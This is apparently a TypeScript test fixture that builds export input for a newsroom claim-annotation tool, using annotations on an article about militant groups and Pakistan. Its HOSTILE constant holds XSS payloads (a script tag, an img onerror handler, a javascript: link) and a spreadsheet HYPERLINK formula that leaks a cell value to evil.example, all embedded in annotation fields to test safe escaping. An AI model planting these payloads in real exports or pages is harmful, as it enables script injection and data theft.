// Realistic export input built from the demo article, with overlapping, disputed, orphaned and hostile claims.
import { readFileSync } from 'node:fs';
import { heading, paragraph, type TiptapDoc } from '@/lib/articles/tiptap-doc';
import type { BriefAnnotationInput, BriefInput } from '@/lib/export/brief-input';

export const ARTICLE_PATH = 'prisma/fixtures/un-militant-nexus-article.txt';
export const BASE_URL = 'https://claimdesk.example';

export const HOSTILE = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  mdLink: '[x](javascript:alert(1))',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  rtl: 'تحليل المحلل: الادعاء غير مؤكد',
  emoji: '🔥🧐',
} as const;

export function canonicalText(): string {
  return readFileSync(ARTICLE_PATH, 'utf8')
    .split(/\r?\n/)
    .map((l) => l.trim())
    .filter((l) => l.length > 0)
    .join('\n');
}

function isHeadingLine(line: string): boolean {
  return line.length <= 80 && !/[.!?:;"'”’)]$/.test(line);
}

export function docFor(text: string): TiptapDoc {
  const lines = text.split('\n');
  return {
    type: 'doc',
    content: lines.map((l, i) => (i === 0 ? heading(1, l) : isHeadingLine(l) ? heading(2, l) : paragraph(l))),
  };
}

const people = {
  amina: { id: 'u-amina', name: 'Amina Qureshi' },
  tom: { id: 'u-tom', name: 'Tom Becker' },
  rev: { id: 'u-rev', name: 'Sara Lindqvist' },
  rev2: { id: 'u-rev2', name: 'Omar Haddad' },
};

const at = (iso: string) => new Date(iso);

type Spec = Omit<BriefAnnotationInput, 'start' | 'end' | 'prefix' | 'suffix' | 'exact' | 'createdAt' | 'updatedAt' | 'reviews' | 'replies'> &
  Partial<Pick<BriefAnnotationInput, 'reviews' | 'replies'>> & { quote: string; created: string; occurrence?: number };

export function anchor(text: string, quote: string, occurrence = 0): { start: number; end: number; exact: string; prefix: string; suffix: string } {
  let start = -1;
  for (let i = 0; i <= occurrence; i++) start = text.indexOf(quote, start + 1);
  if (start < 0) throw new Error(`fixture quote not in article: ${quote}`);
  const end = start + quote.length;
  return { start, end, exact: quote, prefix: text.slice(Math.max(0, start - 32), start), suffix: text.slice(end, end + 32) };
}

function make(text: string, s: Spec): BriefAnnotationInput {
  const { quote, created, occurrence, ...rest } = s;
  return {
    ...anchor(text, quote, occurrence),
    ...rest,
    reviews: s.reviews ?? [],
    replies: s.replies ?? [],
    createdAt: at(created),
    updatedAt: at(created.replace('T09', 'T11')),
  };
}

export function buildFixture(): BriefInput {
  const text = canonicalText();
  const annotations: BriefAnnotationInput[] = [
    make(text, {
      id: 'a-haven',
      quote: 'Afghanistan has once again become a safe haven for militant groups',
      tag: 'un',
      sourceDetail: 'UN Analytical Support and Sanctions Monitoring Team, 36th report',
      note: `Matches the monitoring team wording. ${HOSTILE.script}`,
      confidence: 'high',
      grade: { reliability: 'B', credibility: 2 },
      status: 'CONFIRMED',
      anchorState: 'exact',
      author: people.amina,
      created: '2025-06-02T09:00:00.000Z',
      reviews: [{ reviewer: people.rev, verdict: 'AGREE', comment: null, suggestedTag: null, createdAt: at('2025-06-03T10:00:00.000Z') }],
    }),
    make(text, {
      id: 'a-600',
      quote: 'carried out over 600 attacks in Pakistan in 2025 alone',
      tag: 'un',
      sourceDetail: 'UN report, para. 71',
      note: `Number looks high. ${HOSTILE.img}`,
      confidence: 'medium',
      grade: { reliability: 'C', credibility: 3 },
      status: 'DISPUTED',
      anchorState: 'exact',
      author: people.amina,
      created: '2025-06-02T09:05:00.000Z',
      reviews: [
        {
          reviewer: people.rev,
          verdict: 'DISPUTE',
          comment: 'PIPS database counts 521 attacks for the same period; the UN figure includes claimed-but-unverified incidents.',
          suggestedTag: 'analyst',
          createdAt: at('2025-06-03T10:05:00.000Z'),
        },
        { reviewer: people.rev2, verdict: 'AGREE', comment: 'Fine as reported by the UN.', suggestedTag: null, createdAt: at('2025-06-03T12:00:00.000Z') },
      ],
    }),
    // Overlaps a-600: starts earlier, ends inside it.
    make(text, {
      id: 'a-ttp-soil',
      quote: 'the TTP continues to operate from Afghan soil and carried out over 600 attacks',
      tag: 'intelligence',
      sourceDetail: null,
      note: null,
      confidence: 'low',
      grade: { reliability: null, credibility: 4 },
      status: 'UNREVIEWED',
      anchorState: 'moved',
      author: people.tom,
      created: '2025-06-02T09:10:00.000Z',
    }),
    make(text, {
      id: 'a-bla-cities',
      quote: 'senior BLA figures operate from Afghan cities such as Kandahar and Kabul',
      tag: 'intelligence',
      sourceDetail: HOSTILE.formula,
      note: `See ${HOSTILE.mdLink} and **bold** _under_ \`code\` # hash | pipe`,
      confidence: 'medium',
      grade: { reliability: 'F', credibility: 6 },
      status: 'NEEDS_SOURCE',
      anchorState: 'fuzzy',
      author: people.tom,
      created: '2025-06-02T09:20:00.000Z',
      reviews: [{ reviewer: people.rev, verdict: 'NEEDS_SOURCE', comment: 'Which intelligence sources?', suggestedTag: null, createdAt: at('2025-06-03T10:10:00.000Z') }],
    }),
    make(text, {
      id: 'a-shared-planning',
      quote: 'the sophistication of recent attacks inside Pakistan suggests shared planning and support',
      tag: 'analyst',
      sourceDetail: '-2+3 analysts quoted anonymously',
      note: `${HOSTILE.emoji} ${HOSTILE.rtl}\n# not a heading\n- not a list\n1. not a list either`,
      confidence: null,
      grade: { reliability: null, credibility: null },
      status: 'UNREVIEWED',
      anchorState: 'exact',
      author: people.amina,
      created: '2025-06-02T09:30:00.000Z',
      replies: [
        { author: people.tom, body: `Agree this is opinion @channel ${HOSTILE.script}`, createdAt: at('2025-06-02T13:00:00.000Z') },
      ],
    }),
    make(text, {
      id: 'a-6000',
      quote: 'With an estimated strength of 6,000 fighters',
      tag: 'un',
      sourceDetail: 'UN report, para. 74',
      note: 'Consistent with the previous report (6,500).',
      confidence: 'high',
      grade: { reliability: 'A', credibility: 1 },
      status: 'CONFIRMED',
      anchorState: 'exact',
      author: people.tom,
      created: '2025-06-02T09:40:00.000Z',
      reviews: [{ reviewer: people.rev2, verdict: 'AGREE', comment: null, suggestedTag: null, createdAt: at('2025-06-03T11:00:00.000Z') }],
    }),
    // Headline claim: marker at the end of the first block.
    make(text, {
      id: 'a-headline',
      quote: 'UN Flags Militant Nexus Threatening Pakistan',
      tag: 'analyst',
      sourceDetail: null,
      note: null,
      confidence: null,
      grade: { reliability: null, credibility: null },
      status: 'UNREVIEWED',
      anchorState: 'exact',
      author: people.amina,
      created: '2025-06-02T09:50:00.000Z',
    }),
  ];
  annotations.push({
    id: 'a-orphan',
    start: 4000,
    end: 4052,
    exact: 'The Taliban have fully dismantled all militant camps',
    prefix: 'According to officials, ',
    suffix: ' across the country.',
    tag: 'un',
    sourceDetail: 'Earlier draft of the article',
    note: 'Sentence removed in version 2.',
    confidence: 'low',
    grade: { reliability: 'D', credibility: 5 },
    status: 'DISPUTED',
    anchorState: 'orphaned',
    author: people.tom,
    createdAt: at('2025-06-01T08:00:00.000Z'),
    updatedAt: at('2025-06-01T08:30:00.000Z'),
    reviews: [{ reviewer: people.rev, verdict: 'DISPUTE', comment: 'Contradicted by the UN report itself.', suggestedTag: null, createdAt: at('2025-06-01T09:00:00.000Z') }],
    replies: [],
  });
  return {
    desk: { name: 'South Asia Desk' },
    preparedBy: { name: 'Sara Lindqvist' },
    preparedAt: at('2025-06-04T15:30:00.000Z'),
    article: {
      id: 'art-un-nexus',
      title: 'UN Flags Militant Nexus Threatening Pakistan',
      outlet: 'The Express Tribune',
      byline: 'Kamran Yousaf',
      publishedAt: at('2025-06-01T00:00:00.000Z'),
      url: 'https://tribune.example/story/un-flags-militant-nexus',
    },
    version: { id: 'ver-2', number: 2, text, doc: docFor(text) },
    tags: [
      { key: 'un', label: 'UN report', color: '#2563eb', description: 'Attributed to a UN document' },
      { key: 'intelligence', label: 'Intelligence', color: '#dc2626' },
      { key: 'analyst', label: 'Analyst opinion', color: '#16a34a' },
    ],
    annotations,
  };
}

/** Annotations whose exact text contains none of the hostile strings etc. are numbered in document order. */
export function fixtureIdsInDocumentOrder(input: BriefInput): string[] {
  return input.annotations
    .filter((a) => a.anchorState !== 'orphaned')
    .sort((a, b) => a.start - b.start || a.end - b.end)
    .map((a) => a.id);
}
